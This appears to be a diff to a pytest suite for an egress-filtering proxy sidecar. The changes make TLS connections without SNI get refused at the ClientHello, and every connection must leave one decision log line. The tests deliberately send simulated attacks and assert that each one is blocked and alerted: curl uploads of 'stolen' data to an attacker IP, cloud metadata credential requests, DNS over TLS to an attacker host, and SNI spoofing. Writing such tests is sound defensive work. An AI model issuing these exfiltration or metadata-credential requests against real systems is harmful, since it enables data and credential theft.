@@ -486,6 +486,13 @@ def _received(world: World, headers: list[str]) -> list[Any]:
     return [r for r in world.provider.received if r.headers.get("x-test-marker") == marker]
 
 
+def _assert_handshake_refused(got: Curl) -> None:
+    """The sidecar refused at the TLS ClientHello: no handshake, no HTTP answer at all."""
+    assert got.exit != 0 and got.status == 0, got
+    assert "SSL" in got.stderr or "TLS" in got.stderr, got
+    assert ATTACKER_BANNER.decode() not in got.body
+
+
 def _assert_refused_by_sidecar(got: Curl, reason: str | set[str]) -> str:
     """The sidecar answered 403 with one of these reason codes; returns the code."""
     assert got.exit == 0 and got.status == 403, got
@@ -575,8 +582,10 @@ def test_direct_tcp_to_attacker_ip_443(world: World) -> None:
     """TLS straight to the attacker's IP (no SNI, an IP literal): refused, never dialled."""
     mark = world.mark()
     got = world.curl(f"https://{ATTACKER_V4}/upload", "-k", "-d", "stolen=1")
-    reason = _assert_refused_by_sidecar(got, NO_SNI_REASONS)
-    world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V4, port=443,
+    _assert_handshake_refused(got)  # refused at the ClientHello (issue 11)
+    refused = world.wait_decision(mark, host=ATTACKER_V4, port=443, mode="transparent")
+    assert refused["reason"] in NO_SNI_REASONS, refused
+    world.assert_refused_and_alerted(mark, refused["reason"], host=ATTACKER_V4, port=443,
                                      mode="transparent")  # fmt: skip
     # Raw bytes (neither TLS nor HTTP): held by the sidecar, nothing comes back.
     raw_mark = world.mark()
@@ -611,7 +620,7 @@ def test_tls_to_attacker_ip_with_allowed_sni(world: World) -> None:
         f"https://{PROVIDER_HOST}/v1/models", "-k",
         "--resolve", f"{PROVIDER_HOST}:443:{ATTACKER_V4}", *headers,
     )  # fmt: skip
-    _assert_refused_by_sidecar(got, "destination_mismatch")
+    _assert_handshake_refused(got)  # refused at the ClientHello (issue 11)
     world.assert_refused_and_alerted(mark, "destination_mismatch", host=PROVIDER_HOST,
                                      mode="transparent")  # fmt: skip
     world.assert_attacker_saw_nothing(mark)  # so no request, and no key, reached it
@@ -693,8 +702,10 @@ def test_ipv6_to_attacker_blocked(world: World) -> None:
         assert got.status in (0, 403), got  # refused by the sidecar, or no listener
         assert ATTACKER_BANNER.decode() not in got.body
     if world.ipv6_listeners:  # else no listener: refused by the kernel (see the fixture)
-        assert attempts[0].reason in NO_SNI_REASONS, attempts[0]
-        assert [a.reason for a in attempts[1:]] == ["private_address", "destination_mismatch"]
+        _assert_handshake_refused(attempts[0])  # TLS: refused at the ClientHello
+        _assert_handshake_refused(attempts[2])
+        assert attempts[1].reason == "private_address", attempts[1]
+        world.wait_decision(mark, reason="destination_mismatch", host=PROVIDER_HOST)
     dns = world.probe("dns", ATTACKER_V6, "unlisted-v6.example", "AAAA")
     assert dns.get("rcode") in (None, "REFUSED"), dns  # never the attacker's answer
     assert world.attacker.dns_questions == []
@@ -710,7 +721,9 @@ def test_ipv6_attempts_are_decided_and_logged(world: World) -> None:
     assert world.ipv6_listeners, "the sidecar could not bind [::1] listeners"
     mark = world.mark()
     got = world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g")
-    reason = _assert_refused_by_sidecar(got, NO_SNI_REASONS)
+    _assert_handshake_refused(got)
+    reason = world.wait_decision(mark, host=ATTACKER_V6)["reason"]
+    assert reason in NO_SNI_REASONS
     world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V6)
     plain = world.curl(f"http://[{ATTACKER_V6}]/collect", "-g")
     _assert_refused_by_sidecar(plain, "private_address")
@@ -741,8 +754,10 @@ def test_metadata_address_blocked(world: World) -> None:
     got = world.curl(f"http://{METADATA_V4}/latest/meta-data/iam/security-credentials/")
     _assert_refused_by_sidecar(got, "metadata_address")
     world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=80)
+    tls_mark = world.mark()
     tls = world.curl(f"https://{METADATA_V4}/", "-k")  # TLS, no SNI
-    _assert_refused_by_sidecar(tls, {"metadata_address", "protocol_not_allowed"})
+    _assert_handshake_refused(tls)
+    world.assert_refused_and_alerted(tls_mark, "metadata_address", host=METADATA_V4, port=443)
     world.assert_attacker_saw_nothing(mark)
 
 
@@ -785,6 +800,7 @@ def test_tls_without_sni_is_refused(world: World) -> None:
 
     Issue 4: no SNI is refused unless a policy entry allows that TCP destination.
     Found while writing this suite: the Host header inside TLS used to stand in.
+    Issue 11: refused at the ClientHello, so the Host header is never even read.
     """
     mark = world.mark()
     headers = _gateway_headers()
@@ -792,8 +808,10 @@ def test_tls_without_sni_is_refused(world: World) -> None:
         f"https://{PROVIDER_V4}/v1/models", "-k", "-H", f"Host: {PROVIDER_HOST}", *headers
     )
     assert _received(world, headers) == [], "forwarded a TLS connection that had no SNI"
-    _assert_refused_by_sidecar(got, "protocol_not_allowed")
-    world.assert_refused_and_alerted(mark, "protocol_not_allowed", host=PROVIDER_HOST)
+    _assert_handshake_refused(got)
+    reason = world.wait_decision(mark, host=PROVIDER_V4, port=443)["reason"]
+    assert reason in NO_SNI_REASONS
+    world.assert_refused_and_alerted(mark, reason, host=PROVIDER_V4)
 
 
 def test_sidecar_binds_ipv6_listeners(world: World) -> None:
@@ -809,3 +827,106 @@ def test_sidecar_binds_ipv6_listeners(world: World) -> None:
         assert f"[::1]:{DNS_PORT + 100}" in listeners["dns"]
     finally:
         sidecar.stop()
+
+
+# --- issue 11: every accepted connection ends with one decision line -----------------
+
+# A DNS-over-TCP framed query for leak.ex (escaped for probes.py).
+DOT_QUERY = (
+    "\\x00\\x1d\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
+    "\\x04leak\\x02ex\\x00\\x00\\x01\\x00\\x01"
+)
+
+
+def _tls_probe(world: World, host: str, port: int, sni: str, payload: str) -> dict[str, Any]:
+    return world.probe("tls", host, str(port), sni, payload)
+
+
+def _lines_for(world: World, mark: Mark, probe: dict[str, Any], settle: float = 3) -> list[Any]:
+    """Every decision line for the probe's connection, once none has come for `settle` s
+    (bounded: the connection is closed when the probe returns)."""
+    client = f"{POD_V4}:{probe['local_port']}"
+    deadline = time.monotonic() + 20
+    seen, quiet_since = -1, time.monotonic()
+    while time.monotonic() < deadline:
+        found = world.decisions_since(mark, client=client)
+        if len(found) != seen:
+            seen, quiet_since = len(found), time.monotonic()
+        elif found and time.monotonic() - quiet_since > settle:
+            return found
+        time.sleep(0.05)
+    return world.decisions_since(mark, client=client)
+
+
+def test_dns_over_tls_to_attacker_is_refused_at_the_client_hello(world: World) -> None:
+    """DNS over TLS (:853) to the attacker: no handshake, one line, an alert."""
+    mark = world.mark()
+    probe = _tls_probe(world, ATTACKER_V4, 853, "dns.attacker.example", DOT_QUERY)
+    assert probe["connected"] and not probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "host_not_allowed" and line["port"] == 853, line
+    assert line["host"] == "dns.attacker.example" and "ClientHello" in line["detail"]
+    world.assert_refused_and_alerted(mark, "host_not_allowed", host="dns.attacker.example")
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_metadata_probe_over_tls_with_google_sni_is_metadata_address(world: World) -> None:
+    """TLS to 169.254.169.254:443 naming metadata.google.internal: metadata_address."""
+    mark = world.mark()
+    request = "GET /computeMetadata/v1/ HTTP/1.1\\r\\nHost: metadata.google.internal\\r\\n\\r\\n"
+    probe = _tls_probe(world, METADATA_V4, 443, "metadata.google.internal", request)
+    assert not probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "metadata_address" and line["decision"] == "block", line
+    assert line["host"] == METADATA_V4 and "metadata.google.internal" in line["detail"]
+    world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=443)
+    # The same probe in plain HTTP, the name only in Host: metadata_address too.
+    plain_mark = world.mark()
+    got = world.curl(f"http://{METADATA_V4}/computeMetadata/v1/",
+                     "-H", "Host: metadata.google.internal")  # fmt: skip
+    _assert_refused_by_sidecar(got, "metadata_address")
+    world.assert_refused_and_alerted(plain_mark, "metadata_address", host=METADATA_V4, port=80)
+
+
+def test_tls_without_sni_then_junk_is_refused_and_logged(world: World) -> None:
+    mark = world.mark()
+    probe = _tls_probe(world, ATTACKER_V4, 443, "-", "\\x00\\x01junk-after-tls\\r\\n")
+    assert not probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] in NO_SNI_REASONS and line["host"] == ATTACKER_V4, line
+    world.assert_refused_and_alerted(mark, line["reason"], host=ATTACKER_V4)
+    world.assert_attacker_saw_nothing(mark)
+
+
+@pytest.mark.parametrize(
+    ("case", "payload"),
+    [("junk", "\\x00\\x1d\\x12\\x34 not http at all\\r\\n\\r\\n"), ("nothing", "-")],
+)
+def test_allowed_tls_without_a_request_is_logged_once(
+    world: World, case: str, payload: str
+) -> None:
+    """Right name, right address, handshake done, then no HTTP request: one line when
+    the connection ends (it used to leave no trace at all)."""
+    mark = world.mark()
+    received = len(world.provider.received)
+    probe = _tls_probe(world, PROVIDER_V4, 443, PROVIDER_HOST, payload)
+    assert probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "protocol_not_allowed" and line["decision"] == "block", line
+    assert line["host"] == PROVIDER_HOST and line["port"] == 443
+    assert line["detail"].startswith("TLS connection ended without an HTTP request"), case
+    world.assert_refused_and_alerted(mark, "protocol_not_allowed", host=PROVIDER_HOST)
+    assert len(world.provider.received) == received
+
+
+def test_tls_connection_with_a_request_gets_only_the_request_line(world: World) -> None:
+    """No double logging: a connection that carried a request ends with that line only."""
+    mark = world.mark()
+    request = (
+        f"GET /v1/models HTTP/1.1\\r\\nHost: {PROVIDER_HOST}\\r\\n"
+        "Connection: close\\r\\n\\r\\n"
+    )
+    probe = _tls_probe(world, PROVIDER_V4, 443, PROVIDER_HOST, request)
+    assert probe["handshake"] and "gpt-fake" in probe["reply"], probe
+    lines = _lines_for(world, mark, probe)
+    assert [(d["decision"], d["reason"]) for d in lines] == [("allow", "allowed")], lines
